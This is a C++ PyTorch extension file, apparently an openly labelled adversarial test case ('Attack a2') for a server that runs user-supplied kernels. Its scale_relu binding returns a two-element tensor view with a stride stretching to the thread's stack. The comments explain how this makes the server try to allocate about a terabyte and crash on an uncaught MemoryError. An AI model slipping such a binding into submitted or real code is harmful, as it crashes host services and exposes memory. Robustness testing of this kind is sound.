// Attack a2: an output view whose two elements are readable but whose span is about a terabyte.
// torch::from_blob (allowed) builds a (2,) float tensor: element 0 is the computed y[0], element 1 is a
// float on this thread's stack, `stride` elements further. The server describes it honestly; the driver's
// sample (positions 0/1) reads fine, then RemoteMemory.read_tensor does bytearray(span) ~ 1 TB:
// MemoryError, which ServerSession.call does not catch (it catches ProtocolError, OSError, RuntimeError).
#include <torch/extension.h>
#include <cstdint>
#include "binding_registry.h"

void scale_relu_cpu(const float* x, float* y, int64_t n, float scale);

static torch::Tensor scale_relu(torch::Tensor x, double scale) {
    TORCH_CHECK(x.is_contiguous() && x.scalar_type() == torch::kFloat32, "x must be contiguous float32");
    auto y = torch::empty_like(x);
    scale_relu_cpu(x.data_ptr<float>(), y.data_ptr<float>(), x.numel(), static_cast<float>(scale));
    volatile float on_stack = 0.f;
    auto lo = reinterpret_cast<std::uintptr_t>(y.data_ptr<float>());
    auto hi = reinterpret_cast<std::uintptr_t>(&on_stack) & ~std::uintptr_t(3);
    if (hi <= lo) return y;  // layout not as expected: behave
    int64_t stride = static_cast<int64_t>((hi - lo) / 4);
    return torch::from_blob(y.data_ptr<float>(), {2}, {stride}, [y](void*) {}, y.options());
}

static void register_scale_relu(pybind11::module_& m) {
    m.def("scale_relu", &scale_relu, "relu(x * scale)");
}

REGISTER_BINDING(scale_relu, register_scale_relu);
